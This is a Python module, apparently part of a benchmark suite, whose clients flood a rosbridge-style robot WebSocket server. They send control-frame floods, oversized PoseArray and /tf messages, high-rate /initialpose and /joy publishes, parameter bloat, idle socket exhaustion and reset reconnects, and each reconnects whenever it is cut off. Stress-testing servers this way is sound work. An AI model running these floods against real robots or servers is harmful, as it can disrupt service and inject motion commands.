"""Clients that attack a server, each within its limits or below them: ``python -m benchmarks.attacks.attackers NAME URL``.

They run until they are ended. A client that is cut off comes back, as an attacker would.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import socket
import struct
import sys
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from typing import Any, Final
from urllib.parse import urlsplit

from websockets.asyncio.client import ClientConnection, connect
from websockets.exceptions import WebSocketException

from benchmarks.attacks.crowds import (
    header_bombs,
    map_takers,
    ping_crowd,
    places_of_one_address,
    tcp_churn,
    vanishing_operations,
)

_AGAIN: Final = 0.1
"""Time after which a client that was cut off comes back [s]."""

_PING, _PONG = 0x89, 0x8A


def main() -> None:
    """Attack until ended."""
    os.nice(19)
    name, url = sys.argv[1:3]
    with contextlib.suppress(KeyboardInterrupt):
        asyncio.run(attack(name, url))


async def attack(name: str, url: str) -> None:
    """Attack a server in one way, or in all."""
    attackers = ATTACKS.values() if name == "all" else (ATTACKS[name],)
    await asyncio.gather(*(_for_ever(one, url) for one, count in attackers for _ in range(count)))


async def _for_ever(attacker: Callable[[str], Awaitable[None]], url: str) -> None:
    while True:
        # An attacker that does not understand an answer comes back as well.
        with contextlib.suppress(
            OSError, WebSocketException, TimeoutError, LookupError, AttributeError
        ):
            await attacker(url)
        await asyncio.sleep(_AGAIN)


@asynccontextmanager
async def _client(url: str) -> AsyncIterator[ClientConnection]:
    options: dict[str, Any] = {"compression": None, "max_size": None, "close_timeout": 0.1}
    async with connect(url, ping_interval=None, proxy=None, **options) as connection:
        yield connection


async def _say(connection: ClientConnection, **operation: Any) -> None:
    await connection.send(json.dumps(operation))


async def _at_rate(connection: ClientConnection, frame: str, rate: float) -> None:
    """Send a frame at a rate [1/s] and read nothing of what comes."""
    loop = asyncio.get_running_loop()
    reading = asyncio.create_task(_read(connection))
    due = loop.time()
    try:
        while not reading.done():
            await connection.send(frame)
            due = max(due + 1 / rate, loop.time() - 0.1)
            await asyncio.sleep(max(due - loop.time(), 0))
    finally:
        reading.cancel()


async def _read(connection: ClientConnection) -> None:
    with contextlib.suppress(WebSocketException):
        while True:
            await connection.recv()


async def _control_frames(url: str, opcode: int, payload: bytes, *, read: bool) -> None:
    frames = (struct.pack("!BB", opcode, 0x80 | len(payload)) + bytes(4) + payload) * 5000
    async with _client(url) as connection:
        if not read:
            connection.transport.pause_reading()
        while not connection.transport.is_closing():
            connection.transport.write(frames)
            while connection.transport.get_write_buffer_size() > 1_000_000:
                await asyncio.sleep(0.002)
                if connection.transport.is_closing():
                    return
            await asyncio.sleep(0)


async def _pings(url: str) -> None:
    await _control_frames(url, _PING, b"", read=False)


async def _pongs(url: str) -> None:
    await _control_frames(url, _PONG, b"", read=False)


async def _long_pings(url: str) -> None:
    await _control_frames(url, _PING, bytes(125), read=True)


def _poses(one: object, count: int, topic: str) -> str:
    return json.dumps({"op": "publish", "topic": topic, "msg": {"poses": [one] * count}})


async def _paths(url: str) -> None:
    async with _client(url) as connection:
        await _say(
            connection, op="advertise", topic="/attack/paths", type="geometry_msgs/PoseArray"
        )
        await _at_rate(connection, _poses({"position": {"x": 1}}, 40_000, "/attack/paths"), 2.2)


async def _omitted(url: str) -> None:
    async with _client(url) as connection:
        await _say(
            connection, op="advertise", topic="/attack/empty", type="geometry_msgs/PoseArray"
        )
        await _at_rate(connection, _poses({}, 990, "/attack/empty"), 190)


async def _latched(url: str) -> None:
    async with _client(url) as connection:
        reading = asyncio.create_task(_read(connection))
        for number in range(64):
            topic = f"/attack/latched{number}"
            kind = "geometry_msgs/PoseArray"
            await _say(connection, op="advertise", topic=topic, type=kind, latch=True)
            await connection.send(_poses({"position": {"x": 1}}, 40_000, topic))
            await asyncio.sleep(0.45)
        reading.cancel()


async def _hints(url: str) -> None:
    covariance = [0.0] * 36
    covariance[0] = covariance[7] = covariance[35] = 0.25
    pose = {"pose": {"orientation": {"w": 1}}, "covariance": covariance}
    message = {"header": {"frame_id": "map"}, "pose": pose}
    async with _client(url) as connection:
        frame = json.dumps({"op": "publish", "topic": "/initialpose", "msg": message})
        await _at_rate(connection, frame, 190)


async def _republisher(url: str) -> None:
    async with _client(url) as connection:
        frames = [f"base_link/{number}" for number in range(250)] + ["base_link", "odom"]
        arguments = {"source_frames": frames, "target_frame": "map", "rate": 50.0}
        for _ in range(16):
            await _say(connection, op="call_service", service="/republish_tfs", args=arguments)
        for _ in range(16):
            answer = json.loads(await connection.recv())
            if answer.get("result"):
                await _say(connection, op="subscribe", topic=answer["values"]["topic_name"])
        await _read(connection)


async def _fragments(url: str) -> None:
    async with _client(url) as connection:
        await _say(connection, op="call_service", service="/rosapi/topics")
        topics = json.loads(await connection.recv())["values"]["topics"]
        for topic in topics[:64]:
            await _say(connection, op="subscribe", topic=topic, fragment_size=1)
        await _read(connection)


async def _parameters(url: str) -> None:
    async with _client(url) as connection:
        reading = asyncio.create_task(_read(connection))
        value = json.dumps("x" * 60_000)
        for number in range(500):
            call = {"name": f"/attack/{number}", "value": value}
            await _say(connection, op="call_service", service="/rosapi/set_param", args=call)
            await asyncio.sleep(0.035)
        reading.cancel()
        connection.transport.pause_reading()
        for _ in range(1000):
            await _say(
                connection, op="call_service", service="/rosapi/get_param", args={"name": "/"}
            )
            await asyncio.sleep(0.01)


async def _joys(url: str) -> None:
    async with _client(url) as connection:
        frame = json.dumps({"op": "publish", "topic": "/joy", "msg": {"axes": [0.0] * 4}})
        await _at_rate(connection, frame, 20_000)


async def _reconnects(url: str) -> None:
    async with _client(url) as connection:
        for number in range(350):
            await _say(connection, op="subscribe", topic=f"/a{number % 64}", type="std_msgs/String")
        raw = connection.transport.get_extra_info("socket")
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        connection.transport.abort()


async def _subscribe_png(connection: ClientConnection, prefix: str, *kinds: str) -> None:
    """Subscribe all topics, or those of some types, as PNG and by names of one's own."""
    await _say(connection, op="call_service", service="/rosapi/topics")
    answer = json.loads(await connection.recv())["values"]
    found = zip(answer["topics"], answer["types"], strict=True)
    wanted = [topic for topic, kind in found if not kinds or kind in kinds]
    for topic in wanted[:60]:
        await _say(connection, op="subscribe", topic=prefix + topic, compression="png")
    await _read(connection)


async def _png(url: str) -> None:
    async with _client(url) as connection:
        await _subscribe_png(connection, "/" * (1 + connection.local_address[1] % 97))


async def _pictures(url: str) -> None:
    kinds = (
        *("sensor_msgs/msg/Image", "sensor_msgs/msg/CompressedImage"),
        *("sensor_msgs/msg/PointCloud2", "sensor_msgs/msg/LaserScan"),
    )
    async with _client(url) as connection:
        await _subscribe_png(connection, "", *kinds)


async def _png_calls(url: str) -> None:
    async with _client(url) as connection:
        call = {"op": "call_service", "service": "/rosapi/topics_and_raw_types"}
        await _at_rate(connection, json.dumps({**call, "compression": "png"}), 50)


async def _transforms(url: str) -> None:
    pose = {"header": {"frame_id": "map"}, "transform": {"rotation": {"w": 1.0}}}
    message = {"op": "publish", "topic": "/tf", "msg": {"transforms": [pose] * 9000}}
    async with _client(url) as connection:
        await _at_rate(connection, json.dumps(message), 2.2)


async def _topics(url: str) -> None:
    async with _client(url) as connection:
        reading = asyncio.create_task(_read(connection))
        local = connection.local_address[1]
        for number in range(63):
            topic = {"topic": f"/attack/{local}/{number}", "type": "std_msgs/String"}
            await _say(connection, op="subscribe", throttle_rate=50, **topic)
            await _say(connection, op="advertise", **topic)
            await asyncio.sleep(0.02)
        reading.cancel()
        publish = {"op": "publish", "topic": f"/attack/{local}/0", "msg": {"data": "x"}}
        frame = json.dumps(publish)
        await _at_rate(connection, frame, 100)


async def _sockets(url: str) -> None:
    address = urlsplit(url)
    idle = []
    for _ in range(1100):
        taker = socket.socket()
        taker.setblocking(False)
        idle.append(taker)
        with contextlib.suppress(OSError):
            await asyncio.get_running_loop().sock_connect(taker, (address.hostname, address.port))
    await asyncio.sleep(4)
    for taker in idle:
        taker.close()


async def _viewers(url: str) -> None:
    async with _client(url) as connection:
        await _read(connection)


ATTACKS: Final[dict[str, tuple[Callable[[str], Awaitable[None]], int]]] = {
    "pings": (_pings, 1),
    "pongs": (_pongs, 1),
    "long-pings": (_long_pings, 1),
    "paths": (_paths, 4),
    "latched": (_latched, 1),
    "hints": (_hints, 1),
    "republisher": (_republisher, 1),
    "omitted": (_omitted, 4),
    "fragments": (_fragments, 1),
    "parameters": (_parameters, 1),
    "joys": (_joys, 1),
    "reconnects": (_reconnects, 1),
    "topics": (_topics, 8),
    "sockets": (_sockets, 1),
    "viewers": (_viewers, 24),
    "transforms": (_transforms, 2),
    "png": (_png, 25),
    "png-calls": (_png_calls, 8),
    "pictures": (_pictures, 1),
    "headers": (header_bombs, 16),
    "places": (places_of_one_address, 1),
    "vanishing": (vanishing_operations, 4),
    "churn": (tcp_churn, 1),
    "map-takers": (map_takers, 8),
    "ping-crowd": (ping_crowd, 8),
}
"""Attacks by name, each with its number of clients."""

WITHOUT_ANONYMOUS: Final = ("places",)
"""Attacks on a robot that asks everybody for a token."""

WITH_CAMERA: Final = frozenset({"pictures"})
"""Attacks on a robot with a camera."""


if __name__ == "__main__":
    main()
